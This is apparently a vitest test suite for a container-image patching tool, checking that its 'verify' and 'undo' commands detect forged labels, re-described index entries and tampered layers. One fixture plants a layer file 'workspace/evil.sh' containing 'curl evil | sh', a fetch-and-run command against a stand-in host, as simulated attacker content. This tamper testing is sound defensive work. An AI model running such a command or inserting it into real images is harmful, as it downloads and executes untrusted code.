/**
 * An attacker's and an auditor's look at `layer-rebase verify` and the proof `undo` makes before it
 * moves a tag: each test asserts the correct behaviour (a failing test is a defect).
 */
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { sha256 } from '../../src/oci/digest.js';
import { parseReference } from '../../src/oci/reference.js';
import { putBlobBytes, readBlob } from '../../src/oci/store.js';
import type { ImageConfig, ImageIndex, ImageManifest } from '../../src/oci/types.js';
import {
  buildCnbImage,
  jreLayer,
  nodeLayer,
  npmDepsLayer,
  type BuildpackLayerSpec,
  type BuiltCnbImage,
} from '../fixtures/cnb.js';
import { pushIndex } from '../fixtures/images.js';
import { pushEditedImage } from '../helpers/edit-image.js';
import { runNode } from '../helpers/action.js';
import { registries, storesFor, uniqueRepo } from '../helpers/registry.js';
import { startRegistryProxy } from '../harness/registry-proxy.js';

const stores = storesFor(undefined);
const storeAt = (ref: string) => stores.storeFor(parseReference(ref));
const CLI = resolve(import.meta.dirname, '../../bin/layer-rebase.js');
const LABEL = 'io.github.layer-rebase.applied';

async function cli(dir: string, args: string[]) {
  return runNode(process.execPath, [CLI, ...args], {
    env: { PATH: process.env.PATH, HOME: dir, DOCKER_CONFIG: join(dir, 'none') },
  });
}

interface VerifyJson {
  reproduced: boolean;
  steps: {
    digest: string;
    manifests: { platform: string; outcome: string; detail?: string; swaps: string[] }[];
  }[];
}

/** An app (one or two platforms) on JRE 17.0.8 and a 17.0.9 patch image (an index for two) with its file. */
async function setup(
  options: {
    host?: string;
    platforms?: ('amd64' | 'arm64')[];
    jre?: (arch: string) => BuildpackLayerSpec;
    patchEntry?: (patchRef: string) => Record<string, unknown>;
  } = {},
) {
  const host = options.host ?? registries().open.host;
  const platforms = options.platforms ?? ['amd64'];
  const repo = `${host}/${uniqueRepo('vatk-app')}`;
  const apps: BuiltCnbImage[] = [];
  for (const architecture of platforms)
    apps.push(
      await buildCnbImage(storeAt(repo), {
        platform: { os: 'linux', architecture },
        layers: [options.jre?.(architecture) ?? jreLayer('17.0.8'), npmDepsLayer(`deps ${architecture}`)],
      }),
    );
  const original =
    platforms.length > 1
      ? (await pushIndex(storeAt(repo), apps, { tag: 'prod' })).digest
      : (await storeAt(repo).putManifest(apps[0]!.manifest, 'prod'), apps[0]!.manifest.digest);
  const dir = await mkdtemp(join(tmpdir(), 'verify-attacks-'));
  const patchRef = `${host}/${uniqueRepo('vatk-patch')}:17.0.9`;
  const built: BuiltCnbImage[] = [];
  for (const architecture of platforms)
    built.push(
      await buildCnbImage(storeAt(patchRef), {
        platform: { os: 'linux', architecture },
        layers: [{ ...jreLayer('17.0.9'), data: { version: '17.0.9', 'build id': 'b2' } }],
      }),
    );
  const patchIndex =
    platforms.length > 1 ? (await pushIndex(storeAt(patchRef), built, { tag: '17.0.9' })).digest : undefined;
  if (!patchIndex) await storeAt(patchRef).putManifest(built[0]!.manifest, '17.0.9');
  const file = join(dir, 'jre.json');
  await writeFile(
    file,
    JSON.stringify({
      patches: [
        options.patchEntry?.(patchRef) ?? {
          buildpack: 'example/jvm',
          layer: 'jre',
          'patch-image': patchRef,
        },
      ],
    }),
  );
  return { ref: `${repo}:prod`, repo, dir, file, apps, original, patchRef, patchIndex };
}

async function patch(s: { ref: string; dir: string; file: string }, extra: string[] = []) {
  const r = await cli(s.dir, ['--image', s.ref, '--patches', s.file, ...extra]);
  expect(r.code, r.stderr + r.stdout).toBe(0);
}

async function readImage(ref: string) {
  const store = storeAt(ref);
  const m = await store.getManifest(parseReference(ref).tag ?? parseReference(ref).digest!);
  const manifest = JSON.parse(m.bytes.toString()) as ImageManifest;
  const config = JSON.parse((await readBlob(store, manifest.config, 1 << 22)).toString()) as ImageConfig;
  return { store, digest: m.digest, manifest, config };
}

/** Pushes `ref`'s image again, config edited and optionally a layer appended, under `tag`. */
async function repush(
  ref: string,
  tag: string,
  edit: (c: ImageConfig) => void,
  append?: Buffer,
): Promise<string> {
  const { store, manifest, config } = await readImage(ref);
  edit(config);
  if (append) {
    // A `FROM app` + `COPY` release: one more layer on top, labels inherited.
    const digest = sha256(append);
    await putBlobBytes(store, digest, append);
    manifest.layers.push({
      mediaType: manifest.layers[0]!.mediaType.replace('+gzip', ''),
      digest,
      size: append.length,
    });
    config.rootfs.diff_ids.push(digest);
    config.history = [...(config.history ?? []), { created_by: 'COPY app /workspace' }];
  }
  const configBytes = Buffer.from(JSON.stringify(config));
  await putBlobBytes(store, sha256(configBytes), configBytes);
  manifest.config = { ...manifest.config, digest: sha256(configBytes), size: configBytes.length };
  const bytes = Buffer.from(JSON.stringify(manifest));
  const digest = sha256(bytes);
  await store.putManifest({ bytes, mediaType: manifest.mediaType, digest }, tag);
  return digest;
}

const tagHolds = async (ref: string) => (await storeAt(ref).getManifest(parseReference(ref).tag!)).digest;

async function deleteManifest(ref: string, digest: string) {
  const p = parseReference(ref) as { registry: string; repository: string };
  const res = await fetch(`http://${p.registry}/v2/${p.repository}/manifests/${digest}`, {
    method: 'DELETE',
  });
  expect(res.status).toBe(202);
}

/** A tar holding one file (enough for a registry blob that is a layer). */
function tinyTar(name: string, content: string): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write('0000644\0', 100);
  header.write('0000000\0', 108);
  header.write('0000000\0', 116);
  header.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124);
  header.write('00000000000\0', 136);
  header.write('0', 156);
  header.write('ustar\0', 257);
  header.write('00', 263);
  header.fill(' ', 148, 156);
  let sum = 0;
  for (const b of header) sum += b;
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512);
  body.write(content);
  return Buffer.concat([header, body, Buffer.alloc(1024)]);
}

describe('false alarms: genuine images verify reproduced (and undo restores them)', () => {
  test('a patch file whose data selectors include a key with a space reproduces', async () => {
    // Layer data keys are the buildpack's own; `build id` is as valid a key as `version`.
    const s = await setup({
      jre: () => ({ ...jreLayer('17.0.8'), data: { version: '17.0.8', 'build id': 'b1' } }),
      patchEntry: (patchRef) => ({
        buildpack: 'example/jvm',
        layer: 'jre',
        data: { version: '17.0.*', 'build id': 'b*' },
        'patch-image': patchRef,
      }),
    });
    await patch(s);
    const label = (await readImage(s.ref)).config.config!.Labels![LABEL]!;
    expect(label).toContain('[version=17.0.*, build id=b*]');
    const r = await cli(s.dir, ['verify', '--image', s.ref]);
    expect(r.stdout + r.stderr).toContain('reproduced: the replaced image');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    // Undo proves the same re-derivation: a genuine patch must be undoable.
    const u = await cli(s.dir, ['undo', '--image', s.ref]);
    expect(u.code, u.stdout + u.stderr).toBe(0);
    expect(await tagHolds(s.ref)).toBe(s.original);
  });

  test('a data glob holding ", key=" (one selector) reproduces', async () => {
    const s = await setup({
      jre: () => ({ ...jreLayer('17.0.8'), data: { version: '17.0.8', vendor: 'Example, arch=any' } }),
      patchEntry: (patchRef) => ({
        buildpack: 'example/jvm',
        layer: 'jre',
        data: { vendor: 'Example, arch=*' },
        'patch-image': patchRef,
      }),
    });
    await patch(s);
    const r = await cli(s.dir, ['verify', '--image', s.ref]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
  });

  test('a patch image pinned by its index digest, two platforms: reproduced, --all, undo', async () => {
    const s0 = await setup({ platforms: ['amd64', 'arm64'] });
    const pinnedRef = `${s0.patchRef.replace(/:[^/:]*$/, '')}@${s0.patchIndex!}`;
    await writeFile(
      s0.file,
      JSON.stringify({ patches: [{ buildpack: 'example/jvm', layer: 'jre', 'patch-image': pinnedRef }] }),
    );
    await patch(s0);
    const r = await cli(s0.dir, ['verify', '--image', s0.ref, '--all', '--json']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const result = JSON.parse(r.stdout) as VerifyJson;
    expect(result.steps[0]!.manifests.map((m) => m.outcome)).toEqual([
      'reproduced',
      'reproduced',
      'reproduced',
    ]);
    const u = await cli(s0.dir, ['undo', '--image', s0.ref]);
    expect(u.code, u.stdout + u.stderr).toBe(0);
    expect(await tagHolds(s0.ref)).toBe(s0.original);
  });

  test('a launcher patch with must-match-sha (two shas) beside a layer patch with a data selector reproduces', async () => {
    const host = registries().open.host;
    const appRef = `${host}/${uniqueRepo('vatk-launcher-app')}:v1`;
    const patchRef = `${host}/${uniqueRepo('vatk-launcher-patch')}:22.11.1`;
    const app = await buildCnbImage(
      storeAt(appRef),
      { layers: [nodeLayer('22.11.0'), npmDepsLayer()] },
      'v1',
    );
    await buildCnbImage(
      storeAt(patchRef),
      {
        layers: [nodeLayer('22.11.1')],
        launcher: { content: 'launcher 0.20.5', version: '0.20.5' },
        app: { 'patch.js': 'x' },
      },
      '22.11.1',
    );
    const dir = await mkdtemp(join(tmpdir(), 'verify-attacks-'));
    const file = join(dir, 'node.json');
    await writeFile(
      file,
      JSON.stringify({
        patches: {
          buildpacks: [
            {
              buildpack: 'example/node',
              layer: 'node',
              data: { 'artifact.version': '22.11.*' },
              'patch-image': patchRef,
            },
          ],
          launcher: {
            'must-match-sha': [`sha256:${'1'.repeat(64)}`, app.diffIds.launcher],
            'patch-image': patchRef,
          },
        },
      }),
    );
    const p = await cli(dir, ['--image', appRef, '--patches', file]);
    expect(p.code, p.stdout + p.stderr).toBe(0);
    expect((await readImage(appRef)).config.config!.Labels![LABEL]).toContain('launcher (must-match-sha: 2)');
    const r = await cli(dir, ['verify', '--image', appRef]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const u = await cli(dir, ['undo', '--image', appRef]);
    expect(u.code, u.stdout + u.stderr).toBe(0);
    expect(await tagHolds(appRef)).toBe(app.manifest.digest);
  });
});

describe('tampering is caught; undo never restores on an unproven claim', () => {
  test('an index whose annotations were added, or whose entry was re-described, differs; undo moves nothing', async () => {
    const s = await setup({ platforms: ['amd64', 'arm64'] });
    await patch(s);
    const store = storeAt(s.ref);
    const top = await store.getManifest('prod');
    const index = JSON.parse(top.bytes.toString()) as ImageIndex & { annotations?: Record<string, string> };
    for (const edit of [
      (i: typeof index) => {
        i.annotations = { 'org.opencontainers.image.source': 'https://evil.example' };
      },
      (i: typeof index) => {
        // The arm64 child listed as linux/amd64 first (a runtime on amd64 picks the first match).
        const [a, b] = i.manifests;
        i.manifests = [{ ...b!, platform: a!.platform! }, a!];
      },
    ]) {
      const forged = structuredClone(index);
      edit(forged);
      const bytes = Buffer.from(JSON.stringify(forged));
      const digest = sha256(bytes);
      await store.putManifest({ bytes, mediaType: top.mediaType, digest }, 'prod');
      const r = await cli(s.dir, ['verify', '--image', s.ref, '--json']);
      expect(r.code).toBe(1);
      const result = JSON.parse(r.stdout) as VerifyJson;
      expect(result.reproduced).toBe(false);
      const u = await cli(s.dir, ['undo', '--image', s.ref]);
      expect(await tagHolds(s.ref)).toBe(digest);
      expect(u.stdout).not.toContain('restored');
    }
  });

  test('a forged run-image record naming another run image differs, and undo refuses', async () => {
    const { buildRunImage } = await import('../fixtures/cnb.js');
    const host = registries().open.host;
    const runRef = `${host}/${uniqueRepo('vatk-run')}:latest`;
    const otherRun = `${host}/${uniqueRepo('vatk-run-other')}:latest`;
    const appRef = `${host}/${uniqueRepo('vatk-run-app')}:v1`;
    await buildCnbImage(
      storeAt(appRef),
      {
        os: 'testos-1',
        layers: [nodeLayer('22.11.0'), npmDepsLayer()],
        runImage: { image: runRef, mirrors: [] },
      },
      'v1',
    );
    await buildRunImage(storeAt(runRef), { os: 'testos-2' }, 'latest');
    const other = await buildRunImage(storeAt(otherRun), { os: 'testos-3' }, 'latest');
    const dir = await mkdtemp(join(tmpdir(), 'verify-attacks-'));
    const r0 = await cli(dir, ['--image', appRef, '--run-image', 'auto']);
    expect(r0.code, r0.stdout + r0.stderr).toBe(0);
    const forged = await repush(appRef, 'v1', (c) => {
      const records = JSON.parse(c.config!.Labels![LABEL]!) as { target: string; patchImage: string }[];
      for (const rec of records)
        if (rec.target === 'run-image')
          rec.patchImage = `${otherRun.replace(/:latest$/, '')}@${other.manifest.digest}`;
      c.config!.Labels![LABEL] = JSON.stringify(records);
    });
    const v = await cli(dir, ['verify', '--image', appRef]);
    expect(v.code).toBe(1);
    expect(v.stdout).not.toMatch(/: reproduced/);
    const u = await cli(dir, ['undo', '--image', appRef]);
    expect(u.code).not.toBe(0);
    expect(await tagHolds(appRef)).toBe(forged);
  });

  test('a label claiming a wider patch than was applied (example/* / jre, only one of two jre layers swapped) differs; the genuine glob run reproduces', async () => {
    const host = registries().open.host;
    const jre2 = (v: string) => ({ ...jreLayer(v), buildpack: 'example/jvm2' });
    const patchRef = `${host}/${uniqueRepo('narrow-patch')}:17.0.9`;
    const p = await buildCnbImage(storeAt(patchRef), { layers: [jreLayer('17.0.9'), jre2('17.0.9')] });
    await storeAt(patchRef).putManifest(p.manifest, '17.0.9');
    const dir = await mkdtemp(join(tmpdir(), 'narrow-'));
    const file = join(dir, 'p.json');
    const run = async (buildpack: string) => {
      const repo = `${host}/${uniqueRepo('narrow-app')}`;
      const app = await buildCnbImage(storeAt(repo), { layers: [jreLayer('17.0.8'), jre2('17.0.8')] });
      await storeAt(repo).putManifest(app.manifest, 'prod');
      await writeFile(
        file,
        JSON.stringify({ patches: [{ buildpack, layer: 'jre', 'patch-image': patchRef }] }),
      );
      const r = await cli(dir, ['--image', `${repo}:prod`, '--patches', file]);
      expect(r.code, r.stderr).toBe(0);
      return `${repo}:prod`;
    };
    // The genuine glob run swaps both and reproduces.
    const glob = await run('example/*');
    const g = await cli(dir, ['verify', '--image', glob]);
    expect(g.code, g.stdout).toBe(0);
    // A run of example/jvm alone, its label then edited to say the patch was example/* / jre.
    const narrow = await run('example/jvm');
    const tag = parseReference(narrow).tag!;
    await pushEditedImage(storeAt(narrow), tag, tag, (c) => {
      const label = JSON.parse(c.config.Labels![LABEL]!) as { selector: string }[];
      for (const rec of label) rec.selector = rec.selector.replace('example/jvm / jre', 'example/* / jre');
      c.config.Labels![LABEL] = JSON.stringify(label);
    });
    const v = await cli(dir, ['verify', '--image', narrow]);
    expect(v.code).toBe(1);
    expect(v.stdout).toContain(
      'differs: the recorded patch example/* / jre also selects example/jvm2/jre (buildpacks[1]), which no record swaps',
    );
  });

  test('a forged label whose derived image the attacker also pushed: undo leaves the tag alone (never restores)', async () => {
    const s = await setup();
    await patch(s);
    const genuine = await tagHolds(s.ref);
    // The genuine result stays in the repository (untagged); the tag now holds a tampered image with the
    // same label (an app layer changed beside the recorded swap).
    const tampered = await repush(s.ref, 'prod', () => {}, tinyTar('workspace/evil.sh', 'curl evil | sh\n'));
    expect(genuine).not.toBe(tampered);
    const u = await cli(s.dir, ['undo', '--image', s.ref]);
    expect(u.stdout).not.toContain('restored');
    expect(await tagHolds(s.ref)).toBe(tampered);
  });
});

describe('a release pushed since the patch', () => {
  test('FROM app + COPY (one more layer, label inherited) is left alone with exit 0, not refused', async () => {
    const s = await setup();
    await patch(s);
    const release = await repush(
      s.ref,
      'prod',
      (c) => {
        c.config!.Env = [...(c.config!.Env ?? []), 'RELEASE=2'];
      },
      tinyTar('workspace/app.js', 'console.log("v2")\n'),
    );
    const u = await cli(s.dir, ['undo', '--image', s.ref]);
    expect(await tagHolds(s.ref)).toBe(release);
    expect(u.stdout + u.stderr).toContain('nothing to undo');
    expect(u.code, u.stdout + u.stderr).toBe(0);
  });
});

describe('hostile labels and vanished inputs: an answer, never a crash', () => {
  async function hostileLauncherCount() {
    const s = await setup();
    await patch(s);
    const forged = await repush(s.ref, 'prod', (c) => {
      const records = JSON.parse(c.config!.Labels![LABEL]!) as { target: string; selector: string }[];
      records[records.length - 1]!.target = 'launcher';
      records[records.length - 1]!.selector = 'launcher (must-match-sha: 5000000000)';
      c.config!.Labels![LABEL] = JSON.stringify(records);
    });
    return { s, forged };
  }

  test('verify of a record claiming "launcher (must-match-sha: 5000000000)": cannot verify (JSON), no internal error', async () => {
    const { s } = await hostileLauncherCount();
    const r = await cli(s.dir, ['verify', '--image', s.ref, '--json']);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(/RangeError|Invalid array length|internal error/);
    const result = JSON.parse(r.stdout) as VerifyJson;
    expect(result.reproduced).toBe(false);
    expect(['cannot-verify', 'differs']).toContain(result.steps[0]!.manifests[0]!.outcome);
  });

  test('undo of a record claiming "launcher (must-match-sha: 5000000000)": refused, not an internal failure', async () => {
    const { s, forged } = await hostileLauncherCount();
    const u = await cli(s.dir, ['undo', '--image', s.ref]);
    expect(u.stdout + u.stderr).not.toMatch(/RangeError|Invalid array length|internal error/);
    expect(u.stdout).toContain('refused');
    expect(await tagHolds(s.ref)).toBe(forged);
  });

  test('an index whose replaced index was garbage-collected: verify --json names it (cannot verify), exit 1', async () => {
    const s = await setup({ platforms: ['amd64', 'arm64'] });
    await patch(s);
    await deleteManifest(s.ref, s.original);
    const r = await cli(s.dir, ['verify', '--image', s.ref, '--json']);
    expect(r.code).toBe(1);
    expect(r.stdout, r.stderr).not.toBe('');
    const result = JSON.parse(r.stdout) as VerifyJson;
    expect(result.reproduced).toBe(false);
    const index = result.steps[0]!.manifests.at(-1)!;
    expect(index.outcome).toBe('cannot-verify');
    expect(index.detail).toContain(s.original);
  });

  test('--all on a twice-patched index reads only (no write request), and each step reproduces', async () => {
    const proxy = await startRegistryProxy(
      { name: 'verify-attacks read-only', upstream: 'open' },
      registries().open.host,
    );
    try {
      const s = await setup({ host: proxy.host, platforms: ['amd64', 'arm64'] });
      await patch(s);
      // A second patch: the node deps layer is not touched; patch the JRE again from 17.0.10.
      const patch2 = `${proxy.host}/${uniqueRepo('vatk-patch2')}:17.0.10`;
      const built: BuiltCnbImage[] = [];
      for (const architecture of ['amd64', 'arm64'] as const)
        built.push(
          await buildCnbImage(storeAt(patch2), {
            platform: { os: 'linux', architecture },
            layers: [jreLayer('17.0.10')],
          }),
        );
      await pushIndex(storeAt(patch2), built, { tag: '17.0.10' });
      const file2 = join(s.dir, 'jre2.json');
      await writeFile(
        file2,
        JSON.stringify({ patches: [{ buildpack: 'example/jvm', layer: 'jre', 'patch-image': patch2 }] }),
      );
      await patch({ ...s, file: file2 });
      const before = proxy.stats.requests.length;
      const r = await cli(s.dir, ['verify', '--image', s.ref, '--all', '--json']);
      expect(r.code, r.stdout + r.stderr).toBe(0);
      const result = JSON.parse(r.stdout) as VerifyJson;
      expect(result.steps).toHaveLength(2);
      const writes = proxy.stats.requests.slice(before).filter((q) => !['GET', 'HEAD'].includes(q.method));
      expect(writes).toEqual([]);
    } finally {
      await proxy.close();
    }
  });
});
